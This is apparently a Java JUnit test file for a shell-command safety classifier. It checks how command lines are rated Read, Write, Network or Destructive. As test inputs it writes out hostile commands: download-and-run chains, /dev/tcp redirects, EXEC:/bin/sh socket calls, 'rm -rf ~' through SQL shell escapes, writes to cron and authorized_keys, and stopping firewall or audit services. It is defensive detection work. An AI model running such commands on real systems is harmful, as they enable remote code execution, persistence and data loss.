package dev.cmdgate.core.classify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cmdgate.core.Classification;
import dev.cmdgate.core.CommandClass;
import dev.cmdgate.core.rules.RuleSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

/**
 * The mechanisms for files a command writes and for chains of commands, over a small standalone rule
 * set: {@code writes after}, {@code writes mentions}, {@code last=}, named lists ({@code @NAME}),
 * {@code $sensitive}, paths known only by their beginning, files a network command wrote and the
 * script then runs, files named by sed and awk programs, and the SQL and MongoDB analysers.
 */
class WritesAndChainsTest {

    static final String RULES = MechanismTest.SETTINGS + """
            sensitive-paths ~/.ssh/*
            list places / ~ /srv
            list stoppers firewall* audit*

            [sh]
            is Read minimal "shell"
            opt -c
            code sh flag -c
            code-file -> Write high "script file"
            stdin-code -> Destructive dangerous "interactive"

            [get]
            is Network high "downloads"
            opt -o =FILE
            opt -O
            writes opt -o -> Network high "downloads to a file"
            writes url-names if -O -> Network high "downloads to a file named after the URL"

            [cat|echo|chmod]
            is Read minimal "reads"
            [rm]
            is Destructive dangerous "deletes"

            [finder]
            is Read minimal "finds"
            parse none
            writes after -fprint -> Write low "writes to a file"

            [dbg]
            is Write high "debugger"
            opt -ex =COMMAND
            writes mentions opt -ex -> Write high "names a file its commands write"

            [sync]
            is Write medium "copies"
            opt --delete
            when --delete last=@places -> Destructive dangerous "deletes at a protected place"
            when --delete last=$sensitive -> Destructive dangerous "deletes in a sensitive place"
            writes last -> Write medium "copies"

            [svc]
            is Write high "services"
            when operand=@stoppers -> Destructive dangerous "stops a security control"

            [ed]
            is Read minimal "edits a stream"
            code sed operand 1
            [ak]
            is Read minimal "awk"
            code awk operand 1
            when fact:awk.network fact:awk.pipe -> Destructive dangerous "network to commands"

            [db]
            is Write high "database"
            opt -e =SQL
            code sql opt -e
            when fact:sql.drop -> Destructive dangerous "drop"
            when fact:sql.delete-all -> Destructive dangerous "delete all"
            when fact:sql.meta-! -> Write high "shell escape"
            [mg]
            is Write high "mongo"
            opt --eval =JS
            code mongo opt --eval
            when fact:mongo.dropdatabase -> Destructive dangerous "drop database"

            [scan]
            is Network high "scans"
            opt -oG =FILE
            writes opt -oG -> Network high "writes results"

            [sock]
            is Network high "connects"
            opt -u
            writes prefixed open: create: if !-u -> Network high "files"
            writes prefixed last open: create: if -u -> Network high "files"

            [look]
            is Read minimal "runs"
            parse none
            runs between -exec end ;
            """;

    static final RulesClassifier R = RulesClassifier.of(RuleSet.parse(RULES, "test rules"));

    static CommandClass cls(String line) {
        return R.classifyShell(line).commandClass();
    }

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiterString = " => ", value = {
        // writes after WORD: the argument after a marker word is written
        "finder / -fprint /tmp/x => Write",
        "finder / -fprint /etc/cron.d/x => Destructive",
        "finder / -name /etc/cron.d/x => Read",
        // writes mentions: paths named inside a command of the program's own language
        "dbg -ex 'dump value /etc/passwd 1' => Destructive",
        "dbg -ex 'dump value ~/.ssh/authorized_keys 1' => Destructive",
        "dbg -ex 'info registers' => Write",
        "dbg -ex 'dump value /tmp/x 1' => Write",
        // last=: only the destination counts
        "sync --delete build/ ~ => Destructive",
        "sync --delete build/ ~/ => Destructive",
        "sync --delete ~ /backup/home => Write",
        "sync --delete build/ /srv => Destructive",
        "sync --delete build/ /srv/www => Write",
        "sync --delete keys/ ~/.ssh/keys => Destructive",
        "sync build/ ~ => Write",
        // named lists
        "svc stop firewalld => Destructive",
        "svc stop auditd.service => Destructive",
        "svc stop nginx => Write",
        // a path known only by its beginning
        "echo x > /dev/tcp/203.0.113.5/$PORT => Network",
        "echo x > /dev/tcp/$HOST/$PORT => Network",
        "echo x > /dev/$DEV => Destructive",
        "echo x > ~/.ssh/$NAME => Destructive",
        "echo x > /etc/$NAME => Destructive",
        "echo x > /tmp/$NAME => Write",
        "echo x > /dev/null => Read",
        // sed and awk programs name the files they write
        "ed 'w /etc/profile' x => Destructive",
        "ed 's/a/b/w /etc/profile' x => Destructive",
        "ed 's/a/b/w /tmp/out' x => Read",
        "ak 'BEGIN { print 1 > \"/etc/x\" }' => Destructive",
        "ak 'BEGIN { print 1 >> \"/etc/x\" }' => Destructive",
        "ak 'BEGIN { print 1 > \"/tmp/x\" }' => Read",
        "ak 'BEGIN { s = \"/inet/tcp/0/h/1\"; s |& getline c }' => Destructive",
        // SQL and MongoDB statements
        "db -e 'DROP TABLE t' => Destructive",
        "db -e 'drop database x' => Destructive",
        "db -e 'select 1; DROP TABLE t' => Destructive",
        "db -e 'DELETE FROM t' => Destructive",
        "db -e 'DELETE FROM t WHERE id = 1' => Write",
        "db -e 'SELECT ''DROP TABLE t''' => Write",
        "db -e 'SELECT 1 -- DROP TABLE t' => Write",
        "db -e 'SELECT 1 /* DROP */' => Write",
        "db -e '\\! id' => Write",
        "db -e '\\! rm -rf ~' => Destructive",
        "db -e 'system rm -rf ~' => Destructive",
        "db -e '.shell rm -rf ~' => Destructive",
        "mg --eval 'db.dropDatabase()' => Destructive",
        "mg --eval 'db.c.find({x: \"dropDatabase()\"})' => Write",
        // address-style operands: only the prefixed ones name files, and -u writes only the last
        "sock TCP:h:1 OPEN:/etc/cron.d/x,creat => Destructive",
        "sock TCP:h:1 create:/etc/cron.d/x => Destructive",
        "sock TCP:h:1 EXEC:/bin/sh => Network",
        "sock -u OPEN:/etc/passwd TCP:h:1 => Network",
        "sock -u TCP:h:1 OPEN:/etc/passwd => Destructive",
        "sock TCP:h:1 OPEN:/tmp/x!!OPEN:/etc/x => Destructive",
        // -word=value for word options
        "scan -oG=/etc/cron.d/x h => Destructive",
        "scan -oG /etc/cron.d/x h => Destructive",
    })
    void classifies(String line, String expected) {
        assertThat(cls(line)).as(line).isEqualTo(CommandClass.parse(expected));
    }

    @ParameterizedTest(name = "{0} → {1}")
    @CsvSource(delimiterString = " => ", value = {
        // a file a network command wrote, run later in the same script: unverifiable code
        "get -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x => Destructive",
        "get -o x http://h/x; ./x => Destructive",
        "get -o ./x http://h/x; sh x => Destructive",
        "get http://h/x > /tmp/i.sh; sh /tmp/i.sh => Destructive",
        "get http://h/x > /tmp/i.sh; sh < /tmp/i.sh => Destructive",
        "get -o /tmp/x http://h/x; cat /tmp/x => Network",
        // a download saved under the URL's name
        "get -O http://h/dir/tool && ./tool => Destructive",
        "get -O 'http://h/dir/tool?v=1' && ./tool => Destructive",
        "get -O http://h/ && ./index => Network",
        "get -O http://h/x/.ssh/authorized_keys => Network",
        // run before it is written: not the downloaded file
        "/tmp/x; get -o /tmp/x http://h/x => Network",
        // written by a command that does not reach the network: its content is known to the script
        "echo id > /tmp/i.sh; sh /tmp/i.sh => Write",
    })
    void filesDownloadedAndThenRunAreUnverifiableCode(String line, String expected) {
        assertThat(cls(line)).as(line).isEqualTo(CommandClass.parse(expected));
    }

    @Test
    void findExecInheritsStandardInput() {
        // the command -exec runs reads find's standard input: a bare shell there is interactive
        assertThat(cls("look . -exec /bin/sh ;")).isEqualTo(CommandClass.DESTRUCTIVE);
        assertThat(cls("look . -exec cat {} ;")).isEqualTo(CommandClass.READ);
        assertThat(cls("get http://h/x | look . -exec sh ;")).isEqualTo(CommandClass.DESTRUCTIVE);
    }

    @Test
    void theFindingSaysWhichFileWasDownloadedAndRun() {
        Classification c = R.classifyShell("get -o /tmp/x http://h/x; /tmp/x");
        assertThat(c.findings()).anySatisfy(f -> {
            assertThat(f.commandClass()).isEqualTo(CommandClass.DESTRUCTIVE);
            assertThat(f.reason()).contains("/tmp/x").contains("network");
        });
    }

    @Test
    void listsAndPatternsAreCheckedWhenTheRulesAreRead() {
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS + "[a]\nwhen operand=@nope -> Write low \"r\"\n", "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("unknown list 'nope'");
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS + "[a]\nwhen operand=$secret -> Write low \"r\"\n", "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("unknown pattern");
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS + "[a]\nwrites after -> Write low \"r\"\n", "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("writes after WORD");
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS + "[a]\nwrites mentions files -> Write low \"r\"\n", "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("writes mentions");
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS + "[nix profile|nix run|nix-env]\nis Install high \"i\"\n", "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("mixes whole paths");
        assertThatThrownBy(() -> RuleSet.parse(MechanismTest.SETTINGS.replace("[@settings]", "[@settings]\nlist") , "t"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("list NAME GLOB");
    }
}
